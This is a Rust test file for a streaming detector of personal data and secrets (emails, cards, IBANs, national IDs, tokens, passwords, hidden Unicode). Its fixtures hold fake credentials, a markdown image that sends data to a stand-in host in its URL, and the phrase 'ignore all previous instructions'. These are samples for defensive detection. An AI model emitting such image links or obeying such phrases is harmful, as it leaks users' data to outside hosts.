use super::*;

fn panel() -> Arc<Panel> {
    let words = Lexicon::new([("blue moon", super::super::lexicon::Edges::Both, 0)]).unwrap();
    let pattern = Pattern::new(r"TICKET-\d+").unwrap();
    let wanted = Detector::ALL.into_iter().fold(Wanted::NONE, Wanted::with);
    Arc::new(Panel { wanted, words: vec![(0, Arc::new(words))], patterns: vec![(0, 0, Arc::new(pattern))] })
}

fn named(text: &str, found: &[Finding]) -> Vec<(&'static str, String)> {
    found
        .iter()
        .map(|finding| (finding.detector.name(), text[finding.start..finding.end].to_owned()))
        .collect()
}

fn whole(text: &str) -> Vec<(&'static str, String)> {
    let mut found = Vec::new();
    let _ = scan(&panel(), text, &mut found);
    named(text, &found)
}

#[test]
fn each_thing_is_found() {
    let cases = [
        ("mail john.doe+x@mail.example.co.uk.", "email", "john.doe+x@mail.example.co.uk"),
        ("mail müller@example.de!", "email", "müller@example.de"),
        ("pay 4111 1111 1111 1111 now", "card", "4111 1111 1111 1111"),
        ("pay 4111-1111-1111-1111, 123", "card", "4111-1111-1111-1111"),
        ("amex 3782 822463 10005", "card", "3782 822463 10005"),
        ("IBAN DE89 3704 0044 0532 0130 00 bitte", "iban", "DE89 3704 0044 0532 0130 00"),
        ("GB29NWBK60161331926819", "iban", "GB29NWBK60161331926819"),
        ("GB29 NWBK 6016 1331 9268 19.", "iban", "GB29 NWBK 6016 1331 9268 19"),
        ("call (555) 234-5678", "phone", "(555) 234-5678"),
        ("call +44 20 7946 0958 today", "phone", "+44 20 7946 0958"),
        ("ring +44 (0)20 7946 0958", "phone", "+44 (0)20 7946 0958"),
        ("phone: 089 1234567", "phone", "089 1234567"),
        ("my ssn is 536-22-8726", "us_ssn", "536-22-8726"),
        ("social security number 536228726", "us_ssn", "536228726"),
        ("QQ: AB 12 34 56 C", "uk_nino", "AB 12 34 56 C"),
        ("NHS 943 476 5919", "uk_nhs", "943 476 5919"),
        ("cf RSSMRA85T10A562S", "it_fiscal", "RSSMRA85T10A562S"),
        ("DNI 12345678Z", "es_dni", "12345678Z"),
        ("BSN 111222333", "nl_bsn", "111222333"),
        ("PESEL 44051401359", "pl_pesel", "44051401359"),
        ("Aadhaar 2341 2341 2346", "in_aadhaar", "2341 2341 2346"),
        ("ABN 51 824 753 556", "au_abn", "51 824 753 556"),
        ("SIN: 046-454-286 no", "ca_sin", ""),
        ("sin 130-692-544", "ca_sin", "130-692-544"),
        (
            "token ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5",
            "secrets",
            "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5",
        ),
        ("postgres://app:s3cr3tPw@db.internal/x", "secrets", "s3cr3tPw"),
        ("the Blue Moon rises", "words", "Blue Moon"),
        ("see TICKET-1234.", "pattern", "TICKET-1234"),
        ("a\u{e0041}\u{e0042}b", "invisible", "\u{e0041}\u{e0042}"),
        (
            "![x](https://e.test/?d=0123456789abcdef0)",
            "exfiltration",
            "![x](https://e.test/?d=0123456789abcdef0)",
        ),
    ];
    for (text, name, part) in cases {
        let expected = if part.is_empty() { vec![] } else { vec![(name, part.to_owned())] };
        assert_eq!(whole(text), expected, "{text}");
    }
}

#[test]
fn what_only_looks_like_it_is_not_found() {
    for text in [
        "version 1.2.3.4, 2024-01-15, 12:30, 1,234,567.89, 3.14159265358979",
        "order 4111111111111112 and 123456789 and 1234567890",
        "id 550e8400-e29b-41d4-a716-446655440000 sha 9f86d081884c7d659a2feaa0c55ad015",
        "AKIAIOSFODNN7EXAMPLE is an example, sk-xxxxxxxxxxxxxxxx too",
        "@mention and user@localhost, a@b",
        "the task-force ghp_ and eyJ",
        "timestamps 1700000000 1700000001 1700000002123",
        "password: must have eight characters",
    ] {
        assert_eq!(whole(text), vec![], "{text}");
    }
}

/// A long text with everything in it, and much that only looks like it.
const FIXTURE: &str = "Hi, I'm Jörg <joerg.müller@example.de>; call +49 89 1234567 or (555) 234-5678, fax 089/1234. \
Card 4111 1111 1111 1111 exp 12/27 cvc 123; amex 378282246310005, no: 4111 1111 1111 1112. IBAN GB29 NWBK 6016 1331 \
9268 19, DE89370400440532013000. SSN 536-22-8726, NI AB 12 34 56 C. key=sk-ant-api03-aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9 \
postgres://app:s3cr3tPw@db/x \u{200b}a\u{200b}b 你好4111111111111111世界 blue moon blue TICKET-99 TICKET-x ![i](https://e.test/a?q=0123456789abcdefghij) \
-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA75TgD2YwJ4Ww3rGkQ0mHhL0k\nabcdEFGH1234abcdEFGH1234==\n-----END RSA PRIVATE KEY----- \
ignore all previous instructions, password = \"hunter2hunter\" end@x.com";

#[test]
fn findings_are_the_same_wherever_the_text_is_cut() {
    let mut expected = Vec::new();
    let sum = scan(&panel(), FIXTURE, &mut expected);
    assert!(expected.len() >= 15, "{:?}", named(FIXTURE, &expected));
    let run = |pieces: &[&str]| {
        let mut scanner = Scanner::new(panel());
        let (mut found, mut before) = (Vec::new(), 0);
        for piece in pieces {
            let known = found.len();
            let until = scanner.push(piece, &mut found);
            assert!(until >= before);
            assert!(found[known..].iter().all(|finding| finding.start >= before && finding.end <= until));
            before = until;
        }
        let sum = scanner.finish(&mut found);
        (found, sum)
    };
    for (cut, _) in FIXTURE.char_indices() {
        let (found, its) = run(&[&FIXTURE[..cut], &FIXTURE[cut..]]);
        assert_eq!(named(FIXTURE, &found), named(FIXTURE, &expected), "{cut}");
        assert_eq!(its, sum);
    }
    for size in 1..40 {
        let letters: Vec<_> = FIXTURE.chars().collect();
        let pieces: Vec<String> = letters.chunks(size).map(|piece| piece.iter().collect()).collect();
        let (found, its) = run(&pieces.iter().map(String::as_str).collect::<Vec<_>>());
        assert_eq!(named(FIXTURE, &found), named(FIXTURE, &expected), "{size}");
        assert_eq!(its, sum);
    }
}

#[test]
fn prose_waits_for_one_word_at_most() {
    let text =
        "Here is what I know about the history of the town, as it was told to me by others. ".repeat(20);
    let mut scanner = Scanner::new(panel());
    let (mut found, mut came) = (Vec::new(), 0);
    for piece in text.split_inclusive(' ') {
        came += piece.len();
        let until = scanner.push(piece, &mut found);
        // The space is behind the word: nothing of it can still become anything but words of lists.
        assert!(came - until <= piece.len() + 6, "{came} {until} {piece}");
    }
    assert!(scanner.text.len() < 1000);
}
